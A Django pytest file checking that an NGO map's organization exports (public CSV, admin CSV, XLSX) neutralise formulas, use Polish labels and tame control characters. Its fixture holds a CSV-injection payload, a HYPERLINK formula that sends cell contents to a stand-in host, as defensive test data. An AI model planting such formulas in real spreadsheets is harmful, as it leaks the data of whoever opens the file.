"""The organization exports (public CSV, admin CSV and XLSX) go through the shared writer:
formulas neutralised, Polish headers and labels, control characters harmless."""

import pytest

from ngomap.models import Organization
from tests.home.spreadsheets import csv_dicts, csv_rows, dangerous_cells, xlsx_dicts, xlsx_sheet
from tests.ngomap.factories import area, district, make_organization

pytestmark = pytest.mark.django_db
ADMIN = "/admin/snippets/ngomap/organization/"


@pytest.fixture
def hostile_organization():
    organization = make_organization(
        name='=HYPERLINK("http://evil.example/?"&A1,"Kliknij")',
        district=district(1),
        areas=[area("1")],
        phone="+48 12 345 67 89",
        kind=Organization.Kind.INITIATIVE,
    )
    # An older row, saved past the forms, with a vertical tab in it.
    Organization.objects.filter(pk=organization.pk).update(street="ul.\x0bGołębia")
    return organization


def test_the_public_csv_neutralises_formulas_and_speaks_polish(
    client, map_page, hostile_organization
):
    response = client.get("/mapa-eksport/organizacje.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert not dangerous_cells(rows)
    [cells] = csv_dicts(response)
    assert cells["Nazwa"].startswith("'=HYPERLINK(")
    assert cells["Telefon"] == "'+48 12 345 67 89"
    assert cells["Rodzaj"] == "inicjatywa obywatelska"
    assert cells["Ulica"] == "ul. Gołębia"
    assert cells["Obszary działalności"] == area("1").name


def test_the_admin_exports_neutralise_formulas_and_open_with_control_characters(
    admin_client, home_page, hostile_organization
):
    csv_response = admin_client.get(f"{ADMIN}?export=csv")
    assert not dangerous_cells(csv_rows(csv_response))
    [cells] = csv_dicts(csv_response)
    assert cells["Nazwa"].startswith("'=HYPERLINK(")
    assert cells["Rodzaj"] == hostile_organization.get_kind_display()
    assert cells["Organizacja pożytku publicznego (OPP)"] in ("tak", "nie")
    xlsx = admin_client.get(f"{ADMIN}?export=xlsx")
    [row] = xlsx_dicts(xlsx)
    assert row["Ulica"] == "ul. Gołębia"
    assert row["Nazwa"].startswith("=HYPERLINK(")
    assert xlsx_sheet(xlsx)["A2"].data_type == "s"
